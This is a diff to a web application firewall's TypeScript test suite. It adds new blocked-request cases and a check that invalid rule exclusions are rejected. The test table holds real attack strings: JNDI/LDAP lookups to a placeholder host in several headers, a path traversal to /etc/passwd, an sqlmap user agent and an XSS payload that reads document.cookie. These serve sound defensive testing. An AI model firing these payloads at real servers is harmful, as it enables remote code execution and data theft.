@@ -4,8 +4,9 @@ import { builtinRules } from "@holdfast/waf/core";
 import type { Dialect } from "../../src/edge/index.ts";
 import type { Inspection } from "../../src/firewall/index.ts";
 import { createInspection } from "../../src/firewall/inspection.ts";
-import { formatId } from "../../src/kit/index.ts";
+import { formatId, isFault } from "../../src/kit/index.ts";
 import type { RequestRules } from "../../src/model/plan.ts";
+import { checkRequestRules } from "../../src/wiring/request-rules.ts";
 import { converse, statuses, testEdge } from "./fixture.ts";
 
 const ACCOUNT = new Uint8Array(16).fill(7);
@@ -50,6 +51,9 @@ const REQUESTS: readonly (readonly [what: string, target: string, header: string
   ["a file of the system in a value", "/x?file=../../../../etc/passwd", "", 200, 403],
   ["a scanner", "/x", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n", 403, 403],
   ["a lookup in a header", "/x", `X-Api-Version: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
+  ["a lookup in place of a token", "/x", `Authorization: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
+  ["a lookup in place of a type", "/x", `Content-Type: \${jndi:ldap://a.example/x}\r\n`, 403, 403],
+  ["more cookies than any site has", "/x", `Cookie: ${Array.from({ length: 101 }, (_, n) => `c${n}=1`).join("; ")}\r\n`, 403, 403],
   ["script in the address of the page before", "/x", "Referer: https://a.example/?a=<script>alert(document.cookie)</script>\r\n", 403, 403],
 ];
 
@@ -88,6 +92,21 @@ describe("Holdfast, with the firewall's rules,", { concurrency: 4 }, () => {
     assert.equal(/x-request-id: (\S+)/.exec(heard)?.[1], request);
     assert.match(heard, /\{"code":"firewall.refused"\}$/);
     assert.ok(!heard.includes(rule.split(",")[0] ?? rule));
+  });
+
+  test("says what cannot be meant before it serves", async () => {
+    const exclusion = { rules: "tag:attack-xss", route: undefined, reason: "a course", owner: "Kim", expiresAt: Date.now() + 60_000 };
+    const plan = (more: Partial<RequestRules>) => ({
+      firewall: { mode: "on", paranoia: 1, rules: undefined, setup: undefined, exclusions: [], ...more } as const,
+    });
+    await checkRequestRules(plan({}));
+    const wrong: readonly (readonly [Partial<RequestRules>, RegExp])[] = [
+      [{ exclusions: [{ ...exclusion, target: "ARGZ:foo" }] }, /ARGZ/],
+      [{ exclusions: [{ ...exclusion, target: undefined, rules: "tag:nobody-has-it" }] }, /tag:nobody-has-it/],
+      [{ rules: "file:///nowhere/at/all" }, /nowhere/],
+    ];
+    for (const [more, words] of wrong)
+      await assert.rejects(checkRequestRules(plan(more)), (error) => isFault(error, "plan.invalid") && words.test(error.message));
   });
 
   test("only records what it would have blocked, where that is asked for", async () => {
